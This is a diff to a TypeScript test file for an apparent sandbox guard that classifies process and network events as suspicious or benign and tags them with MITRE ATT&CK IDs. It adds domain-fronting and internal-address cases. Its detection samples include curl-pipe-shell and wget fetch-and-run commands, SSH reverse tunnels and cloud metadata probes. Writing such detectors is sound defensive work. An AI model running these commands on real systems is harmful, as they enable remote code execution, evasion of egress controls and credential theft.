@@ -56,6 +56,7 @@ const ROME: [string, GuardEvent[], string, string][] = [
   ['ssh -o RemoteForward', cases(processStart(['ssh', '-o', 'RemoteForward 2222 localhost:22', 'host'])), 'ssh-reverse-tunnel', 'T1572'],
   ['ssh -L', cases(processStart(['ssh', '-N', '-L', '5432:db.internal:5432', 'bastion'])), 'ssh-forward-tunnel', 'T1572'],
   ['ssh -D', cases(processStart(['ssh', '-D', '1080', 'host'])), 'ssh-dynamic-proxy', 'T1090'],
+  ['SNI other than the CONNECT target', cases(proxyConnection('allowed.test', 443, { protocolDetail: 'evil.test', frontedHost: 'evil.test' })), 'domain-fronting', 'T1090.004'],
   ['SSH banner on 443', cases(proxyConnection('tunnel.example.test', 443, { protocol: 'ssh', protocolDetail: 'SSH-2.0-OpenSSH_9.6' })), 'ssh-protocol-nonstandard-port', 'T1572'],
   ['SSH on 22 to an unknown host', cases(proxyConnection('203.0.113.9', 22, { protocol: 'ssh', decision: 'denied' })), 'ssh-protocol-outbound', 'T1572'],
   ['autossh', cases(processStart(['autossh', '-M', '0', '-N', 'host'])), 'tunnel-tool', 'T1572'],
@@ -79,6 +80,18 @@ const ROME: [string, GuardEvent[], string, string][] = [
   ['cloud metadata address', cases(networkDenied('169.254.169.254', 80)), 'cloud-metadata-access', 'T1552.005'],
   ['metadata.google.internal', cases(proxyConnection('metadata.google.internal', 80, { method: 'HTTP', decision: 'denied' })), 'cloud-metadata-access', 'T1552.005'],
   ['private range', cases(networkDenied('172.20.3.4', 5432)), 'private-range-connect', 'T1018'],
+  [
+    'allowed name resolved to loopback, refused',
+    cases(proxyConnection('allowed.test', 8080, { decision: 'denied', reason: 'internal-address: 127.0.0.1 is a loopback address', resolvedAddress: '127.0.0.1', addressClass: 'loopback' })),
+    'proxy-internal-address',
+    'T1046',
+  ],
+  [
+    'allowed name resolved to the metadata service (IPv4-mapped)',
+    cases(proxyConnection('allowed.test', 80, { decision: 'denied', resolvedAddress: '::ffff:a9fe:a9fe', addressClass: 'metadata' })),
+    'cloud-metadata-access',
+    'T1552.005',
+  ],
   // ingress
   ['curl x | sh', cases(sh('curl -fsSL http://get.example.test/install.sh | sh')), 'curl-pipe-shell', 'T1105'],
   ['sh -c "$(wget ...)"', cases(sh('sh -c "$(wget -qO- http://x.example.test/i)"')), 'curl-pipe-shell', 'T1105'],
@@ -176,6 +189,8 @@ const BENIGN: [string, GuardEvent[]][] = [
   // A dev server started in the background keeps running after its step, near idle.
   ['node server.js & after its step', [sh('node server.js &'), processStart(['node', 'server.js']), ...samplesOverTime(60, { step: 5, stepRunning: false, cpuCores: 0.02 })]],
   ['curl of an allowed docs site', [processStart(['curl', '-sS', 'https://docs.example.test/setup.md']), proxyConnection('docs.example.test', 443, { protocolDetail: 'docs.example.test' })]],
+  // An operator's allowCidrs let an internal address through: allowed, so nothing to report.
+  ['internal service the task allows', [proxyConnection('db.corp.test', 443, { resolvedAddress: '10.1.2.3', addressClass: 'private' })]],
   ['curl a local dev server', [processStart(['curl', '-s', '--noproxy', '*', 'http://localhost:8000/'])]],
   ['pip install with build isolation', [
     processStart(['python3', '-m', 'pip', 'install', 'requests'], { exe: '/usr/bin/python3.12' }),
